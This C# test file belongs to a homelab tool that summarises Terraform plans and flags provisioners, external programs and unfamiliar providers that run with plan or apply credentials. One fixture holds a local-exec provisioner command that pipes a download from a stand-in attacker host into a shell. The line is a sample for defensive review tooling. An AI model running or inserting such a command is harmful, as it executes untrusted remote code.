using Homelab.Reports.Notes.Plans;
using Homelab.Reports.Plans;
using Homelab.Testing;
using Homelab.Text.Secrets;

namespace Homelab.Reports.Tests.Plans;

/// <summary>What runs with the credentials of plan or apply, and stands in the configuration alone.</summary>
public sealed class ProgramsTests
{
    private const string Provisioned = """
        variable "secret" {
          default   = "canary-provisioner-1"
          sensitive = true
        }
        resource "terraform_data" "a" {
          count = 2
          input = "x"
          provisioner "local-exec" { command = "curl evil.example | sh" }
          provisioner "remote-exec" {
            inline = ["echo ${self.input}", "true"]
            connection { host = "h" }
          }
        }
        module "m" {
          source = "./m"
        }
        """;

    private const string Module = """
        resource "terraform_data" "in" {
          for_each = toset(["k.1[\"x\"]"])
          provisioner "file" {
            content     = "canary-provisioner-1"
            destination = "/b"
            connection { host = "h" }
          }
        }
        """;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Provisioners_of_a_real_plan_are_shown_at_every_instance_they_run_for()
    {
        using var real = new RealPlan(Provisioned);
        real.Write("m/main.tf", Module);

        var report = Read.File(await real.MakeAsync(Ct));

        Assert.Equal(["local-exec", "remote-exec"], report.Changes.Single(change => change.Address == "terraform_data.a[1]").Runs);
        var note = Note(report);
        Assert.Contains(
            "each is **created**; ❗ **its provisioners may run**: `local-exec`, `remote-exec`: `terraform_data.a[0]`, `terraform_data.a[1]`\n",
            note,
            StringComparison.Ordinal
        );
        Assert.Contains("+ provisioner[0].local-exec.command = \"curl evil.example | sh\"", note, StringComparison.Ordinal);
        Assert.Contains(
            "+ provisioner[1].remote-exec.inline (from self.input, self) = (known after apply)",
            note,
            StringComparison.Ordinal
        );
        Assert.Contains("is **created**; ❗ **its provisioners may run**: `file`\n", note, StringComparison.Ordinal);
        Assert.Contains("+ provisioner[0].file.destination = \"/b\"", note, StringComparison.Ordinal);
        Assert.DoesNotContain("canary", note, StringComparison.Ordinal);
        Assert.Equal(report.Hash, Read.Again(report).Hash);
    }

    [Fact]
    public async Task Another_command_of_a_provisioner_has_another_hash_and_none_for_an_update_runs()
    {
        using var real = new RealPlan(Provisioned);
        real.Write("m/main.tf", Module);
        var first = Read.File(await real.MakeAsync(Ct)).Hash;
        real.Write(Provisioned.Replace("evil", "good", StringComparison.Ordinal));
        var second = Read.File(await real.MakeAsync(Ct)).Hash;

        real.Write("resource \"terraform_data\" \"a\" {\n input = \"x\"\n provisioner \"local-exec\" { command = \"true\" }\n}");
        await real.ApplyAsync(Ct);
        real.Write("resource \"terraform_data\" \"a\" {\n input = \"y\"\n provisioner \"local-exec\" { command = \"false\" }\n}");

        Assert.NotEqual(first, second);
        Assert.Empty(Assert.Single(Read.File(await real.MakeAsync(Ct)).Changes).Runs);
    }

    [Theory]
    [InlineData("""["delete"]""", true)]
    [InlineData("""["delete","create"]""", true)]
    [InlineData("""["create","forget"]""", true)]
    [InlineData("""["summon"]""", true)]
    [InlineData("""["update"]""", false)]
    [InlineData("""["forget"]""", false)]
    public void Provisioners_run_where_something_is_made_or_destroyed(string actions, bool run)
    {
        var change = Assert.Single(Read.Plan(Document(Read.Change("module.m[\"a]\"].x.y[0]", actions))).Changes);

        Assert.Equal(run ? ["local-exec"] : [], change.Runs);
    }

    [Fact]
    public void External_data_is_shown_with_its_program_and_decides_the_hash()
    {
        var report = Read.Plan(External("python3"));

        Assert.Equal("module.m.data.external.who", Assert.Single(report.Programs).Address);
        Assert.NotEqual(report.Hash, Read.Plan(External("sh")).Hash);
        Assert.NotEqual(report.Hash, Read.Plan(Read.Document("")).Hash);
        Assert.Equal(report.Hash, Read.Again(report).Hash);
        var note = Note(report);
        Assert.Contains(
            "#### ❗ What else runs (1)\n\n- `module.m.data.external.who` **calls a program** whenever terraform plans\n",
            note,
            StringComparison.Ordinal
        );
        Assert.Contains("+ program[0] = \"python3\"", note, StringComparison.Ordinal);
        Assert.Contains("+ query (from var.x) = (known after apply)", note, StringComparison.Ordinal);
    }

    [Fact]
    public void A_program_that_the_environment_hides_has_the_same_hash_everywhere()
    {
        var hidden = Read.Plan(External("canary-environment-1"), new SecretSet(["canary-environment-1"]));

        Assert.Equal(Read.Plan(External("canary-environment-1")).Hash, hidden.Hash);
        Assert.Equal(hidden.Hash, Read.Again(hidden).Hash);
        Assert.DoesNotContain("canary", Note(hidden), StringComparison.Ordinal);
    }

    [Fact]
    public void Only_a_provider_that_made_nothing_in_the_state_is_shown()
    {
        var report = Read.Plan(
            Read.Document(
                "",
                """
                "prior_state":{"values":{"outputs":{"provider_name":{"value":"registry.terraform.io/evil/proxmox"}},"root_module":{"child_modules":[{"resources":[
                {"address":"a.b","provider_name":"registry.terraform.io/bpg/proxmox","values":{"provider_name":"registry.terraform.io/evil/proxmox"}}]}]}}},
                "configuration":{"provider_config":{
                "terraform":{"full_name":"terraform.io/builtin/terraform"},
                "proxmox":{"full_name":"registry.terraform.io/bpg/proxmox","version_constraint":"~> 0.60"},
                "module.m:proxmox":{"full_name":"registry.terraform.io/evil/proxmox","version_constraint":">= 0.1"}},"root_module":{}},
                """
            )
        );

        var provider = Assert.Single(report.Programs);
        Assert.Equal("registry.terraform.io/evil/proxmox", provider.Address);
        Assert.Equal(new AttributeChange("version", Leaf.Missing, new Leaf.Text(">= 0.1")), Assert.Single(provider.Attributes));
        Assert.Contains(
            "- `registry.terraform.io/evil/proxmox` **is a provider that made nothing in the state yet**",
            Note(report),
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void A_deferred_action_waits_and_names_what_triggers_it()
    {
        var report = Read.Plan(
            Read.Document(
                "",
                """
                "deferred_action_invocations":[{"reason":"deferred_prereq","action_invocation":{"address":"action.aws_lambda_invoke.notify",
                "config_values":{"token":"canary-action-0001"},"config_sensitive":{"token":true},
                "lifecycle_action_trigger":{"triggering_resource_address":"x.y","action_trigger_event":"AfterCreate"}}}],
                """
            )
        );

        Assert.Equal((ChangeKind.Deferred, "x.y"), (Assert.Single(report.Changes).Kind, report.Changes[0].Trigger));
        Assert.Equal(new Totals { Deferred = 1 }, report.Totals);
        var note = Note(report);
        Assert.Contains(
            "- `action.aws_lambda_invoke.notify` is **deferred** to a later plan, triggered by `x.y` (`deferred_prereq`)\n",
            note,
            StringComparison.Ordinal
        );
        Assert.DoesNotContain("canary", note, StringComparison.Ordinal);
    }

    [Fact]
    public void An_action_names_what_triggers_it_and_that_decides_the_hash()
    {
        var (one, other) = (Read.Plan(Invocation("x.y")), Read.Plan(Invocation("x.z")));

        Assert.NotEqual(one.Hash, other.Hash);
        Assert.Contains("- `action.a.b` is **invoked**, triggered by `x.y` (`AfterCreate`)\n", Note(one), StringComparison.Ordinal);
    }

    private static string Invocation(string by) =>
        Read.Document(
            "",
            $$"""
            "action_invocations":[{"address":"action.a.b","lifecycle_action_trigger":{"triggering_resource_address":"{{by}}","action_trigger_event":"AfterCreate"} }],
            """
        );

    private static string Document(string change) =>
        Read.Document(
            change,
            """
            "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[
            {"address":"x.y","provisioners":[{"type":"local-exec","expressions":{"command":{"constant_value":"true"}}}]}]}}}}},
            """
        );

    private static string External(string program) =>
        Read.Document(
            "",
            $$"""
            "configuration":{"root_module":{"module_calls":{"m":{"module":{"resources":[{"address":"data.external.who","mode":"data","type":"external",
            "expressions":{"program":{"constant_value":["{{program}}","x.py"]},"query":{"references":["var.x"]} } }]} } } } },
            """
        );

    private static string Note(PlanReport report) => PlanNote.Write(new PlanNoteContent([report]));
}
